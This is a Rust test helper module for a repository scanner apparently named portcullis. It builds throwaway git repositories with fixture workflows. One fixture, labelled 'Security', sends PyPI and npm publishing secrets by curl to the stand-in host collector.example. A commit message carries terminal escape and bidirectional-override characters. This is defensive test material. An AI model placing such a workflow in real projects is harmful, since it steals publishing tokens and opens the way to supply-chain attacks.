//! Repositories that the tests of the program scan, and the program itself.

#![allow(
    dead_code,
    clippy::unwrap_used,
    clippy::panic,
    reason = "each test file uses its part; a test fails by panicking"
)]

use std::path::Path;
use std::process::{Command, Output};

/// Two publishing tokens go to a foreign host.
pub(crate) const STEAL: &str = "name: Security\non: [push]\njobs:\n  send:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -s -d 'PYPI_API_TOKEN=${{ secrets.PYPI_API_TOKEN }}&NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://collector.example/in\n";
/// Publishes with a long-lived token, by an action that its owner can move.
pub(crate) const PUBLISH: &str = "on: release\njobs:\n  p:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: pypa/gh-action-pypi-publish@release/v1\n        with:\n          password: ${{ secrets.PYPI_API_TOKEN }}\n";

/// Runs the program.
pub(crate) fn portcullis(arguments: &[&str], folder: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_portcullis"))
        .args(arguments)
        .current_dir(folder)
        .env_remove("RUST_LOG")
        .env_remove("GITHUB_ACTIONS")
        .output()
        .unwrap()
}

/// Runs git without anybody's settings.
pub(crate) fn git(folder: &Path, arguments: &[&str]) -> String {
    let output = Command::new("git")
        .args(["-c", "user.name=Test", "-c", "user.email=test@example.test", "-c", "commit.gpgsign=false"])
        .args(arguments)
        .current_dir(folder)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8_lossy(&output.stdout).trim().to_owned()
}

/// A repository with a publishing workflow, and a theft that `main` took out again and `dev` still has.
pub(crate) fn victim() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path();
    git(path, &["init", "-q", "-b", "main"]);
    git(path, &["remote", "add", "origin", "https://user:secret@GitHub.example/Owner/Widgets.git"]);
    std::fs::create_dir_all(path.join(".github/workflows")).unwrap();
    std::fs::write(path.join("pyproject.toml"), "[project]\nname = \"widgets\"\n").unwrap();
    std::fs::write(path.join(".github/workflows/publish.yml"), PUBLISH).unwrap();
    git(path, &["add", "-A"]);
    git(path, &["commit", "-q", "-m", "Publish"]);
    std::fs::write(path.join(".github/workflows/security.yml"), STEAL).unwrap();
    git(path, &["add", "-A"]);
    git(path, &["commit", "-q", "-m", "Add security \u{1b}[31mworkflow\u{202e}"]);
    git(path, &["branch", "dev"]);
    git(path, &["rm", "-q", ".github/workflows/security.yml"]);
    git(path, &["commit", "-q", "-m", "Take it out"]);
    folder
}

/// The document that was printed.
pub(crate) fn json(output: &Output) -> serde_json::Value {
    serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|error| panic!("{error}: {}", String::from_utf8_lossy(&output.stderr)))
}

/// What was printed on standard error.
pub(crate) fn complaint(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// A repository with one commit that holds these files.
pub(crate) fn repository(files: &[(&str, &str)]) -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    git(folder.path(), &["init", "-q", "-b", "main"]);
    commit(folder.path(), files, "Begin");
    folder
}

/// Writes files and commits them.
pub(crate) fn commit(folder: &Path, files: &[(&str, &str)], message: &str) {
    for (path, text) in files {
        let path = folder.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    git(folder, &["add", "-A"]);
    git(folder, &["commit", "-q", "-m", message]);
}
